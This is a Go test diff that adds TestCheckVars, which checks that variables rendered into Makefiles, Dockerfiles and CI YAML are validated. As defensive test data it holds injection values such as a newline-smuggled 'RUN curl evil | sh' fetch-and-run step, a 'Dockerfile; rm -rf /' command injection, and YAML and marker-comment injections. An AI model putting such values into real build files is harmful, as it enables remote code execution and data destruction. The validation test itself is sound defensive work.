@@ -3,6 +3,7 @@ package retrofit
 import (
 	"context"
 	"errors"
+	"maps"
 	"os"
 	"path"
 	"path/filepath"
@@ -204,6 +205,38 @@ func TestNewFindings(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			if got := newFindings(before, tt.after); !slices.Equal(got, tt.want) {
 				t.Errorf("newFindings = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+// TestCheckVars checks the vars of a record before they are rendered into Makefiles,
+// Dockerfiles and YAML: what add writes passes, anything else is refused.
+func TestCheckVars(t *testing.T) {
+	good := map[string]string{
+		"mainPackage": "./cmd/api", "moduleDir": ".", "dockerfile": "Dockerfile.prod", "aliases": "test vet lint",
+		"goImage": "1.26", "cgo": "true", "cgoReason": "imports github.com/mattn/go-sqlite3",
+		"cgoAlternative": "modernc.org/sqlite", "vendored": "false", "ciStage": ".pre",
+	}
+	if err := checkVars(good); err != nil {
+		t.Fatalf("the vars add writes: %v", err)
+	}
+	tests := []struct{ key, value, want string }{
+		{"goImage", "1.26\nRUN curl evil | sh", "goImage"},
+		{"dockerfile", "Dockerfile; rm -rf /", "dockerfile"},
+		{"moduleDir", "svc dir", "moduleDir"},
+		{"mainPackage", "cmd/api", "mainPackage"},
+		{"aliases", "test all", "aliases"},
+		{"ciStage", "test\nevil:", "ciStage"},
+		{"cgoReason", "x\n# >>> gonew-prod:makefile", "cgoReason"},
+		{"extra", "x", `unknown key "extra"`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.key, func(t *testing.T) {
+			vars := maps.Clone(good)
+			vars[tt.key] = tt.value
+			if err := checkVars(vars); err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("checkVars with %s=%q: %v, want an error naming %s", tt.key, tt.value, err, tt.want)
 			}
 		})
 	}
